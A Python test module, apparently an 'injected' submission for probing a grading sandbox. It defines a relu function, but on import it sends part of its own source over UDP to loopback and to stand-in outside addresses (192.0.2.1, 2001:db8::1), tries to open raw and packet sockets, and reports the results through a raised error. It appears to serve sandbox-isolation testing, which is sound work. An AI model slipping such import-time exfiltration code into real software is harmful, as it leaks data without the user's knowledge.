# --- injected: send what it read to the network by UDP (the loopback, an outside address), raw and packet --
import errno as _errno
import json as _json
import socket as _socket

_TOLD = {}          # the port of a UDP service on this machine: filled in by the test

_PAYLOAD = b"HOSTILE-UDP " + open(__file__, "rb").read()[:200]


def _name(exc):
    return _errno.errorcode.get(exc.errno, str(exc.errno)) if exc.errno else type(exc).__name__


def _attack():
    report = {"sent": [], "errors": {}}
    port = int(_TOLD.get("udp", 9))
    # The loopback (a service of the grading machine), and outside addresses (TEST-NET-1 and the IPv6
    # documentation prefix, as a student's own server would be).
    for family, address in ((_socket.AF_INET, ("127.0.0.1", port)), (_socket.AF_INET6, ("::1", port)),
                            (_socket.AF_INET, ("192.0.2.1", 53)), (_socket.AF_INET6, ("2001:db8::1", 53))):
        try:
            with _socket.socket(family, _socket.SOCK_DGRAM) as s:
                s.sendto(_PAYLOAD, address)
            report["sent"].append(address[0])
        except OSError as exc:
            report["errors"][address[0]] = _name(exc)
    for label, args in (("raw", (_socket.AF_INET, _socket.SOCK_RAW, _socket.IPPROTO_UDP)),
                        ("packet", (getattr(_socket, "AF_PACKET", 17), _socket.SOCK_DGRAM, 0))):
        try:
            _socket.socket(*args).close()
            report["sent"].append(label)
        except OSError as exc:
            report["errors"][label] = _name(exc)
    return report


_REPORT = _attack()


def relu(x):
    raise ValueError("UDP:" + _json.dumps(_REPORT, separators=(",", ":")))
